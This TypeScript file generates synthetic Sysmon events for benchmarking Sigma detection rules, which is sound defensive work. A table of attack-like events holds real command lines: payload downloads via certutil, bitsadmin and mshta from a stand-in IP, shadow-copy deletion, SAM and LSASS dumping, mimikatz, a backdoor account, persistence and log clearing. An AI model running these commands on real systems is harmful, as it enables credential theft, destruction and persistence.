// Deterministic generator of flat Sysmon-shaped JSON events for the eval benchmarks: mostly benign
// process, network, file, registry, image-load and DNS activity, with about 1% attack-like events
// written to trigger real SigmaHQ rules; the same events also come in the nested shape @tsigma/evtx renders.
// Same seed, same events.

/** Share of generated events that are crafted to look malicious. */
const MALICIOUS_RATE = 0.01;

const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';

/** A small, fast, seedable PRNG (mulberry32). */
export function makeRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTS = ['WS-0142.corp.local', 'WS-0877.corp.local', 'SRV-DC01.corp.local', 'SRV-SQL02.corp.local', 'LT-3310.corp.local'];
const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\svc_backup', 'NT AUTHORITY\\SYSTEM', 'CORP\\carol', 'NT AUTHORITY\\NETWORK SERVICE'];
const BENIGN_PROCS: [string, string, string][] = [
  ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe'],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234',
    'chrome.exe',
  ],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 'EXPLORER.EXE'],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"',
    'WinWord.exe',
  ],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', 'CONHOST.EXE'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}', 'taskhostw.exe'],
  [
    'C:\\Program Files\\Microsoft VS Code\\Code.exe',
    '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
    'electron.exe',
  ],
  [
    'C:\\Windows\\System32\\backgroundTaskHost.exe',
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
    'backgroundTaskHost.exe',
  ],
  [
    'C:\\Windows\\System32\\SearchProtocolHost.exe',
    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646',
    'SearchProtocolHost.exe',
  ],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe status --porcelain', 'git.exe'],
];
const BENIGN_PARENTS: [string, string][] = [
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"'],
];
const DLLS = [
  'C:\\Windows\\System32\\kernel32.dll',
  'C:\\Windows\\System32\\ntdll.dll',
  'C:\\Windows\\System32\\user32.dll',
  'C:\\Windows\\System32\\combase.dll',
  'C:\\Windows\\System32\\crypt32.dll',
  'C:\\Program Files\\Google\\Chrome\\Application\\120.0.6099.130\\chrome_elf.dll',
];
const FILES = [
  'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp4A21.tmp',
  'C:\\Users\\bob\\Documents\\notes.txt',
  'C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpcache-1.bin',
  'C:\\Windows\\Prefetch\\CHROME.EXE-5FE9C2B4.pf',
  'C:\\Users\\alice\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\data_1',
];
const REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory',
  'HKU\\S-1-5-21-1111-2222-3333-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1111-2222-3333-1001\\\\Device\\HarddiskVolume3\\Windows\\explorer.exe',
];
const DOMAINS = [
  'www.google.com',
  'login.microsoftonline.com',
  'update.googleapis.com',
  'github.com',
  'outlook.office365.com',
  'settings-win.data.microsoft.com',
];
const IPS = ['142.250.185.78', '20.190.159.2', '140.82.121.4', '52.97.146.178', '10.0.3.17', '192.168.1.20'];

// Attack-like activity; each entry becomes a process_creation event (with its parent).
const MALICIOUS_PROCS: [string, string, string, string][] = [
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /priv', 'whoami.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet', 'VSSADMIN.EXE', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe',
    'CertUtil.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    'PowerShell.EXE',
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  ],
  ['C:\\Windows\\System32\\reg.exe', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'reg.exe', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full',
    'RUNDLL32.EXE',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\updater.exe /ru SYSTEM',
    'schtasks.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  ['C:\\Windows\\System32\\net.exe', 'net user backdoor P@ssw0rd! /add', 'net.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete', 'wmic.exe', 'C:\\Windows\\System32\\cmd.exe'],
  [
    'C:\\Users\\Public\\mimikatz.exe',
    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
    'mimikatz.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\bitsadmin.exe',
    'bitsadmin /transfer job /download /priority high http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe',
    'bitsadmin.exe',
    'C:\\Windows\\System32\\cmd.exe',
  ],
  [
    'C:\\Windows\\System32\\mshta.exe',
    'mshta.exe javascript:a=GetObject("script:http://198.51.100.7/x.sct").Exec();close();',
    'MSHTA.EXE',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c ping -n 1 127.0.0.1 & del /f /q C:\\Users\\Public\\a.exe',
    'Cmd.Exe',
    'C:\\Users\\Public\\a.exe',
  ],
  ['C:\\Windows\\System32\\bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled no', 'bcdedit.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe cl Security', 'wevtutil.exe', 'C:\\Windows\\System32\\cmd.exe'],
];

function pick<T>(rand: () => number, xs: readonly T[]): T {
  return xs[Math.floor(rand() * xs.length)] as T;
}

function guid(rand: () => number): string {
  const hex = (n: number): string => Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16)).join('');
  return `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`.toUpperCase();
}

function hashes(rand: () => number): string {
  const hex = (n: number): string =>
    Array.from({ length: n }, () => Math.floor(rand() * 16).toString(16))
      .join('')
      .toUpperCase();
  return `SHA1=${hex(40)},MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`;
}

function utcTime(i: number): string {
  const ms = Date.UTC(2024, 2, 1) + i * 37;
  return new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
}

function header(rand: () => number, id: number, i: number): Record<string, unknown> {
  return {
    EventID: id,
    Channel: SYSMON_CHANNEL,
    Computer: pick(rand, HOSTS),
    UtcTime: utcTime(i),
    ProcessGuid: guid(rand),
    ProcessId: 1000 + Math.floor(rand() * 9000),
  };
}

function processCreation(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  const [image, cmd, ofn, parent] = malicious ? pick(rand, MALICIOUS_PROCS) : [...pick(rand, BENIGN_PROCS), pick(rand, BENIGN_PARENTS)[0]];
  const parentCmd = malicious ? `${parent} /c ${cmd}` : pick(rand, BENIGN_PARENTS)[1];
  return {
    ...header(rand, 1, i),
    Image: image,
    FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
    Description: ofn.replace(/\.exe$/i, ''),
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: ofn,
    CommandLine: cmd,
    CurrentDirectory: 'C:\\Windows\\system32\\',
    User: pick(rand, USERS),
    LogonGuid: guid(rand),
    LogonId: '0x3e7',
    TerminalSessionId: 0,
    IntegrityLevel: malicious ? 'High' : pick(rand, ['Medium', 'High', 'System']),
    Hashes: hashes(rand),
    ParentProcessGuid: guid(rand),
    ParentProcessId: 500 + Math.floor(rand() * 5000),
    ParentImage: parent,
    ParentCommandLine: parentCmd,
    ParentUser: pick(rand, USERS),
  };
}

function network(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  return {
    ...header(rand, 3, i),
    Image: malicious ? 'C:\\Windows\\System32\\rundll32.exe' : pick(rand, BENIGN_PROCS)[0],
    User: pick(rand, USERS),
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIsIpv6: 'false',
    SourceIp: '10.0.3.17',
    SourceHostname: pick(rand, HOSTS),
    SourcePort: 49152 + Math.floor(rand() * 10000),
    DestinationIsIpv6: 'false',
    DestinationIp: malicious ? '198.51.100.7' : pick(rand, IPS),
    DestinationHostname: malicious ? 'raw.githubusercontent.com' : pick(rand, DOMAINS),
    DestinationPort: malicious ? 4444 : pick(rand, [443, 80, 53, 445]),
    DestinationPortName: malicious ? '-' : 'https',
  };
}

function fileEvent(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  return {
    ...header(rand, 11, i),
    Image: pick(rand, BENIGN_PROCS)[0],
    TargetFilename: malicious
      ? 'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\update.vbs'
      : pick(rand, FILES),
    CreationUtcTime: utcTime(i),
    User: pick(rand, USERS),
  };
}

function registry(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  return {
    ...header(rand, 13, i),
    EventType: 'SetValue',
    Image: malicious ? 'C:\\Windows\\System32\\reg.exe' : pick(rand, BENIGN_PROCS)[0],
    TargetObject: malicious ? 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater' : pick(rand, REG_KEYS),
    Details: malicious ? 'C:\\Users\\Public\\updater.exe' : 'DWORD (0x00000001)',
    User: pick(rand, USERS),
  };
}

function imageLoad(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  return {
    ...header(rand, 7, i),
    Image: malicious ? 'C:\\Windows\\System32\\rundll32.exe' : pick(rand, BENIGN_PROCS)[0],
    ImageLoaded: malicious ? 'C:\\Windows\\System32\\comsvcs.dll' : pick(rand, DLLS),
    FileVersion: '10.0.19041.3636 (WinBuild.160101.0800)',
    Description: 'Windows library',
    Product: 'Microsoft® Windows® Operating System',
    Company: 'Microsoft Corporation',
    OriginalFileName: 'library.dll',
    Hashes: hashes(rand),
    Signed: 'true',
    Signature: 'Microsoft Windows',
    SignatureStatus: 'Valid',
    User: pick(rand, USERS),
  };
}

function dnsQuery(rand: () => number, i: number, malicious: boolean): Record<string, unknown> {
  return {
    ...header(rand, 22, i),
    QueryName: malicious ? 'pastebin.com' : pick(rand, DOMAINS),
    QueryStatus: '0',
    QueryResults: `::ffff:${pick(rand, IPS)};`,
    Image: pick(rand, BENIGN_PROCS)[0],
    User: pick(rand, USERS),
  };
}

const KINDS = [processCreation, processCreation, network, fileEvent, registry, imageLoad, imageLoad, dnsQuery];

/** `count` events as plain objects; about {@link MALICIOUS_RATE} of them are attack-like. */
export function generateEvents(count: number, seed = 42): Record<string, unknown>[] {
  const rand = makeRandom(seed);
  const out: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const malicious = rand() < MALICIOUS_RATE;
    const kind = malicious && rand() < 0.7 ? processCreation : pick(rand, KINDS);
    out.push(kind(rand, i, malicious));
  }
  return out;
}

/** `count` events as JSON text lines (what a log source delivers). */
export function generateEventLines(count: number, seed = 42): string[] {
  return generateEvents(count, seed).map((e) => JSON.stringify(e));
}

/** Sysmon's provider GUID, as EVTX records carry it. */
const SYSMON_PROVIDER_GUID = '5770385F-C22A-43E0-BF4C-06F5698FFBD9';

// Flat fields that an EVTX record keeps in its System header rather than in EventData.
const SYSTEM_FIELDS: ReadonlySet<string> = new Set(['EventID', 'Channel', 'Computer']);

/**
 * One flat Sysmon event as `tsigma evtx dump` prints the record it came from: the System header as Sysmon
 * writes it (Task = EventID, attributes under `#attributes`) and every other field in EventData.
 */
export function toEvtxShape(flat: Record<string, unknown>, recordId: number): Record<string, unknown> {
  const eventData: Record<string, unknown> = {};
  for (const key in flat) if (!SYSTEM_FIELDS.has(key)) eventData[key] = flat[key];
  const systemTime = `${String(flat['UtcTime']).replace(' ', 'T')}000Z`;
  return {
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: SYSMON_PROVIDER_GUID } },
        EventID: flat['EventID'],
        Version: 5,
        Level: 4,
        Task: flat['EventID'],
        Opcode: 0,
        Keywords: '0x8000000000000000',
        TimeCreated: { '#attributes': { SystemTime: systemTime } },
        EventRecordID: recordId,
        Correlation: null,
        Execution: { '#attributes': { ProcessID: 2284, ThreadID: 5252 } },
        Channel: flat['Channel'],
        Computer: flat['Computer'],
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: eventData,
    },
  };
}
